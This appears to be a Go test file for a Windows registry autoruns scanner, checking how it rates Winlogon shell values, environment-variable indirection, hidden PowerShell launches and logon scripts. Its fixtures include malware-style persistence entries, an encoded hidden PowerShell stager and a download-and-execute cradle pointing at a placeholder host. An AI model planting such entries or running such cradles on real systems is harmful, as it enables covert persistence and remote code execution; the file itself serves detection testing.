package autoruns

import (
	"strings"
	"testing"

	"github.com/runkeyhunt/runkeyhunt/tables/registry"
)

const (
	winlogonUser = `Software\Microsoft\Windows NT\CurrentVersion\Winlogon`
	policiesUser = `Software\Microsoft\Windows\CurrentVersion\Policies\System`
)

func verdictsOf(rows []Row) map[string]string {
	out := map[string]string{}
	for _, r := range rows {
		if old, ok := out[r.Path]; !ok || rank(r.Verdict) > rank(old) {
			out[r.Path] = r.Verdict
		}
	}
	return out
}

func rank(v string) int { return map[string]int{"benign": 0, "suspicious": 1, "malicious": 2}[v] }

func indicatorsOf(rows []Row, path string) string {
	var all []string
	for _, r := range rows {
		if r.Path == path {
			all = append(all, r.Indicators)
		}
	}
	return strings.Join(all, " | ")
}

// Item 5: a user's Winlogon Shell/Userinit and Policies\System\Shell have no
// default; only Windows' own values (Server Core's shell among them) pass.
func TestUserWinlogonAnyValueIsModified(t *testing.T) {
	cases := []struct {
		key, name, data string
		modified        bool
	}{
		{winlogonUser, "Shell", `explorer.exe, C:\Users\alice\AppData\Roaming\Microsoft\svcupd.exe`, true},
		{winlogonUser, "Shell", `C:\Users\alice\AppData\Local\Temp\shell.exe`, true},
		{winlogonUser, "Userinit", `C:\Windows\system32\userinit.exe, C:\Users\Public\ui.exe`, true},
		{policiesUser, "Shell", `C:\ProgramData\Intel\igfx.exe`, true},
		{winlogonUser, "Shell", `cmd.exe /c "cd /d "%USERPROFILE%" & start cmd.exe /k runonce.exe /AlternateShellStartup"`, false},
		{winlogonUser, "Shell", `explorer.exe`, false},
		{winlogonUser, "Userinit", `C:\Windows\system32\userinit.exe,`, false},
		{policiesUser, "Shell", ``, false},
	}
	for _, c := range cases {
		h := userHive("S-1-5-21-1-1001", "alice")
		h.SetValue(c.key, sz(c.name, c.data))
		rows := scan(t, h)
		if len(rows) == 0 {
			t.Errorf("%s\\%s = %q: no row", c.key, c.name, c.data)
			continue
		}
		got := strings.Contains(rows[0].Indicators, "winlogon_modified")
		if got != c.modified {
			t.Errorf("%s\\%s = %q: winlogon_modified %v, want %v (%s)", c.key, c.name, c.data, got, c.modified, rows[0].Indicators)
		}
		if c.modified && rows[0].Verdict == "benign" {
			t.Errorf("%s\\%s = %q: benign", c.key, c.name, c.data)
		}
	}
}

// Item 4: %NAME% resolved through the Environment keys (SharPersist env).
func TestRunValueThroughEnvironmentKeys(t *testing.T) {
	h := userHive("S-1-5-21-1-1001", "alice")
	h.SetValue(`Environment`, sz("sysupd", `%USERPROFILE%\AppData\Local\Temp\upd.exe`))
	h.SetValue(`Environment`, sz("TEMP", `%USERPROFILE%\AppData\Local\Temp`))
	h.SetValue(runKey, sz("Update", `%sysupd%`))
	h.SetValue(runKey, sz("Cleaner", `"%TEMP%\..\Programs\cleaner\cleaner.exe" /tray`))
	m := machineHive()
	m.SetValue(`SYSTEM\CurrentControlSet\Control\Session Manager\Environment`, sz("winupd", `powershell -nop -w hidden -enc `+b64utf16(stager)))
	m.SetValue(`SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, sz("WinUpd", `%winupd%`))
	rows := scan(t, h, m)
	v := verdictsOf(rows)
	userPath := `HKEY_USERS\S-1-5-21-1-1001\` + runKey + `\Update`
	if v[userPath] == "benign" || !strings.Contains(indicatorsOf(rows, userPath), "env_indirection") || !strings.Contains(indicatorsOf(rows, userPath), "staging_folder_image") {
		t.Errorf("user env value: %s %s", v[userPath], indicatorsOf(rows, userPath))
	}
	machinePath := `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\WinUpd`
	if v[machinePath] != "malicious" {
		t.Errorf("machine env value: %s %s", v[machinePath], indicatorsOf(rows, machinePath))
	}
	for _, r := range rows {
		if r.Name == "WinUpd" && r.Data != `%winupd%` {
			t.Errorf("data column changed: %q", r.Data)
		}
	}
	cleaner := `HKEY_USERS\S-1-5-21-1-1001\` + runKey + `\Cleaner`
	if strings.Contains(indicatorsOf(rows, cleaner), "env_indirection") {
		t.Errorf("a standard variable counted as indirection: %s", indicatorsOf(rows, cleaner))
	}
}

// Item 4: a hidden PowerShell with no command runs the profiles; -File
// with nothing after it is suspicious by itself.
func TestPowerShellProfilePersistence(t *testing.T) {
	h := userHive("S-1-5-21-1-1001", "alice")
	h.SetValue(runKey, sz("Updater", `C:\WINDOWS\system32\WindowsPowerShell\v1.0\powershell.exe -NonInteractive -WindowStyle Hidden`))
	h.SetValue(runKey, sz("NoFile", `powershell.exe -w hidden -File`))
	h.SetValue(runKey, sz("NoProf", `powershell.exe -NoProfile -w hidden`))
	rows := scan(t, h)
	var profiles []string
	for _, r := range rows {
		if r.Name == "Updater" {
			if r.PayloadKind != "file" || r.Verdict == "benign" {
				t.Errorf("profile row: %+v", r)
			}
			profiles = append(profiles, r.PayloadPath)
		}
	}
	want := `C:\Users\alice\Documents\WindowsPowerShell\Microsoft.PowerShell_profile.ps1`
	if !strings.Contains(strings.Join(profiles, "\n"), want) || !strings.Contains(strings.Join(profiles, "\n"), `C:\Windows\System32\WindowsPowerShell\v1.0\profile.ps1`) {
		t.Errorf("profiles %q lack %s", profiles, want)
	}
	v := verdictsOf(rows)
	noFile := `HKEY_USERS\S-1-5-21-1-1001\` + runKey + `\NoFile`
	if v[noFile] == "benign" || !strings.Contains(indicatorsOf(rows, noFile), "file_without_path") {
		t.Errorf("-File with no path: %s %s", v[noFile], indicatorsOf(rows, noFile))
	}
	for _, r := range rows {
		if r.Name == "NoProf" && r.PayloadKind != "" {
			t.Errorf("-NoProfile reads no profile: %+v", r)
		}
	}
}

// Item 8: admin scripts from admin folders are benign unless something
// else fires; the same line on a writable folder is not.
func TestAdminScriptLines(t *testing.T) {
	const line = `powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -NoProfile -File `
	cases := []struct {
		script, verdict string
	}{
		{`"C:\Program Files\ManageEngine\UEMS_Agent\bin\agent_startup.ps1"`, "benign"},
		{`C:\Windows\CCM\SystemTemp\..\Scripts\inventory.ps1`, "suspicious"},
		{`C:\Windows\System32\GroupPolicy\User\Scripts\Logon\map.ps1`, "benign"},
		{`\\corp.example.com\NETLOGON\logon.ps1`, "benign"},
		{`\\corp.example.com\SYSVOL\corp.example.com\scripts\drives.ps1`, "benign"},
		{`C:\Users\alice\AppData\Local\Temp\logon.ps1`, "suspicious"},
		{`C:\Users\Public\logon.ps1`, "suspicious"},
	}
	for _, c := range cases {
		h := userHive("S-1-5-21-1-1001", "alice")
		h.SetValue(runKey, sz("Agent", line+c.script))
		rows := scan(t, h)
		v := verdictsOf(rows)[`HKEY_USERS\S-1-5-21-1-1001\`+runKey+`\Agent`]
		if rank(v) < rank(c.verdict) || c.verdict == "benign" && v != "benign" {
			t.Errorf("%s: %s, want %s (%s)", c.script, v, c.verdict, rows[0].Indicators)
		}
	}
	// Something else firing keeps every indicator.
	h := userHive("S-1-5-21-1-1001", "alice")
	h.SetValue(runKey, sz("Agent", line+`"C:\Program Files\Agent\a.ps1"; iex (New-Object Net.WebClient).DownloadString('http://x.example.invalid/')`))
	if rows := scan(t, h); rows[0].Verdict == "benign" {
		t.Errorf("admin script with a cradle: %+v", rows[0])
	}
}

var _ = registry.RegSZ
